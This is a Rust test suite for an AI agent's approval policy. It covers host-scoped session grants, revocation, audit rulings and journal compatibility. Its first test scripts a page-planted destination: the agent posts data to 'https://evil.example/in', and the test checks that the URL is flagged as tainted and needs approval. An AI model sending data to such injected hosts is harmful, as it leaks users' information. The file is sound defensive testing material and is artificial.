//! The policy in a session: what is asked about every time, what an answer covers, and the record of it.

use agent::{Ruling, audit};
use protocol::{
    Answer, ApprovalId, Authorization, CallEvent, Command, DurableBody, DurableEvent, Event, Grant,
    Mode, SessionOptions,
};
use serde_json::{Value, json};
use testkit::{Reply, ScriptedTool, SessionHarness};

fn send(call: &'static str, url: &str) -> Reply {
    Reply::calls("", &[(call, "post", json!({"url": url, "body": "x"}))])
}

async fn harness(mode: Mode, replies: Vec<Reply>) -> SessionHarness {
    let tools = vec![ScriptedTool::sending("post"), ScriptedTool::looking("get")];
    let change = |options: &mut SessionOptions| {
        options.mode = mode;
        options.limits.max_repeats = 0;
    };
    SessionHarness::with_options(replies, tools, change).await
}

async fn allow(harness: &mut SessionHarness, approval: ApprovalId, grant: Grant) {
    harness.answer(approval, Answer::Allow { grant }).await;
}

async fn events(harness: &SessionHarness) -> Vec<DurableEvent> {
    let store = harness.sessions.store();
    store.all_events(harness.session.id()).await.unwrap()
}

#[tokio::test]
async fn value_named_only_by_a_page_is_asked_about_until_allowed() {
    let get = Reply::calls("", &[("c1", "get", json!({"url": "https://example.org"}))]);
    let evil = "https://evil.example/in";
    let replies = vec![
        get,
        send("c2", evil),
        send("c3", evil),
        Reply::says("Done."),
    ];
    let mut harness = harness(Mode::Free, replies).await;
    harness.user("What does https://example.org say?").await;
    let (approval, asked) = harness.question().await;
    assert!(asked.once_only);
    let tainted: Vec<_> = asked
        .tainted
        .iter()
        .map(|tainted| tainted.value.as_str())
        .collect();
    assert_eq!(tainted, [evil]);
    // An answer for the chat counts for this one call, and for what it showed.
    allow(&mut harness, approval, Grant::Session).await;
    let story = harness.turn_end().await;
    assert!(story.contains("tool_finished c3 done"), "{story}");
    let lines = audit(&events(&harness).await);
    let rulings: Vec<_> = lines
        .iter()
        .map(|line| {
            (
                line.call.as_ref().map(ToString::to_string),
                word(&line.ruling),
            )
        })
        .collect();
    let wanted = [
        ("c1", "looks"),
        ("c2", "asked"),
        ("c2", "answered"),
        ("c2", "person"),
        ("c3", "mode"),
    ];
    let wanted = wanted.map(|(call, word)| (Some(call.to_owned()), word));
    assert_eq!(rulings, wanted);
}

fn word(ruling: &Ruling) -> &'static str {
    match ruling {
        Ruling::Allowed {
            authorization: None,
        } => "looks",
        Ruling::Allowed {
            authorization: Some(Authorization::Mode { .. }),
        } => "mode",
        Ruling::Allowed {
            authorization: Some(Authorization::Grant { .. }),
        } => "grant",
        Ruling::Allowed {
            authorization: Some(Authorization::Person),
        } => "person",
        Ruling::Asked { .. } => "asked",
        Ruling::Answered { .. } => "answered",
        Ruling::Denied { .. } => "denied",
        Ruling::Revoked => "revoked",
    }
}

#[tokio::test]
async fn grant_for_the_chat_covers_its_host_and_can_be_revoked() {
    let (one, other) = ("https://one.example/a", "https://other.example/");
    let replies = vec![
        send("c1", one),
        send("c2", "https://one.example/b"),
        send("c3", other),
        Reply::says("Done."),
        send("c4", one),
    ];
    let mut harness = harness(Mode::Ask, replies).await;
    harness.user("Send to one.example and other.example").await;
    let (first, asked) = harness.question().await;
    assert_eq!(asked.scope.hosts, ["one.example"]);
    assert_eq!(
        format!("{:?}", asked.scope_text),
        "Some(policy-scope { scope: policy-scope-hosts { hosts: \"one.example\" } })"
    );
    allow(&mut harness, first.clone(), Grant::Session).await;
    let (second, asked) = harness.question().await;
    assert_eq!(asked.scope.hosts, ["other.example"]);
    allow(&mut harness, second, Grant::Once).await;
    harness.turn_end().await;
    let granted = |events: &[DurableEvent]| {
        let rulings = audit(events).into_iter().map(|line| line.ruling);
        let grant = |ruling: &Ruling| {
            *ruling
                == Ruling::Allowed {
                    authorization: Some(Authorization::Grant {
                        approval: first.clone(),
                    }),
                }
        };
        rulings.filter(grant).count()
    };
    assert_eq!(granted(&events(&harness).await), 1);
    let approval = Some(first.clone());
    harness.command(Command::RevokeGrants { approval }).await;
    harness.user("And once more to one.example").await;
    harness.question().await;
    assert_eq!(granted(&events(&harness).await), 1);
}

#[tokio::test]
async fn an_old_journal_without_these_words_is_read() {
    let old: Value = json!({
        "seq": 3, "ts": "2026-11-20T09:30:00Z", "session": "s", "type": "tool_started", "call": "c1"
    });
    let event: Event = serde_json::from_value(old).unwrap();
    let wanted = DurableBody::Call(CallEvent::ToolStarted {
        call: "c1".into(),
        authorization: None,
    });
    assert_eq!(event.durable_body(), Some(&wanted));
}
